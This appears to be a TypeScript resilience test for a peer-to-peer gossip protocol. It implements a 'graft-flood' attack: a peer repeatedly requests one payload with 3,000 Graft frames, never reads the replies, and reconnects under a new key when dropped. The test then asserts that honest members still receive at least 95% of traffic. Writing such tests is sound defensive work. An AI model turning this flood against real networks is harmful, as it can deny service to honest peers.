/**
 * A peer asks for one payload again and again (Graft) and reads nothing. Each time that it is thrown out it comes back at once, under a
 * new key.
 */
import { Effect } from "effect"
import { graft, kindOf, neighbor, payloadId, peerData } from "../attacker/frames.ts"
import { IrohPeer } from "../attacker/IrohPeer.ts"
import { type Attack, atLeast, attempt } from "../harness/Attack.ts"
import { heardShare, joinAll, type Member, startMember, startTestnet } from "../harness/members.ts"
import { startVictim } from "../harness/Victim.ts"

const TOPIC = "grafts"
const GRAFTS = 3_000
const WINDOW_BYTES = 16_384
const AGAIN_MS = 100

/** The id of any payload that the victim sends to a neighbour. */
const learnPayload = (peer: IrohPeer, victim: Member) =>
  attempt("the id of a payload", async () => {
    const link = await peer.dial(victim)
    const id = new Promise<Buffer>((resolve, reject) => {
      link.read((body) => {
        if (kindOf(body) === "Gossip") resolve(payloadId(body))
      })
      setTimeout(reject, 15_000, new Error("none came in 15 s"))
    })
    await (await link.open(TOPIC)).write(neighbor("high", peerData([peer.address])))
    return await id.finally(() => link.close())
  })

const flood = Effect.fnUntraced(function* (victim: Member, id: Buffer) {
  const peer = yield* IrohPeer.make()
  const grafts = Buffer.concat(Array.from({ length: GRAFTS }, () => graft(id)))
  yield* Effect.promise(async () => {
    try {
      const link = await peer.dial(victim)
      link.connection.setReceiveWindow(BigInt(WINDOW_BYTES))
      const stream = await link.open(TOPIC)
      await stream.write(neighbor("high", peerData([peer.address])))
      await stream.write(grafts)
      await link.closed
    } catch {
      // Thrown out before everything was written.
    }
  })
  yield* Effect.sleep(AGAIN_MS)
}, Effect.scoped)

export const graftFlood: Attack = {
  name: "graft-flood",
  about: "3,000 Grafts for one payload, and nothing read; back under a new key when thrown out",
  run: Effect.fnUntraced(function* (scale) {
    const bootstrap = yield* startTestnet()
    const members: Array<Member> = []
    for (let i = 0; i < 2; i++) members.push(yield* startMember(yield* startVictim(), { bootstrap }))
    yield* joinAll(members, TOPIC)
    const traffic = { everyMs: 50, bytes: 3_800, forMs: scale.pick(20_000, 6_000) }
    yield* Effect.forkScoped(
      Effect.flatMap(
        Effect.flatMap(IrohPeer.make(), (peer) => learnPayload(peer, members[0]!)),
        (id) => Effect.forever(flood(members[0]!, id)),
      ),
    )
    // The id is learned while the members talk; from then on the flood runs.
    yield* heardShare(members, TOPIC, { ...traffic, forMs: 1_000 })
    const heard = yield* heardShare(members, TOPIC, traffic)
    return [atLeast("honest heard", heard, "%", 95)]
  }),
}
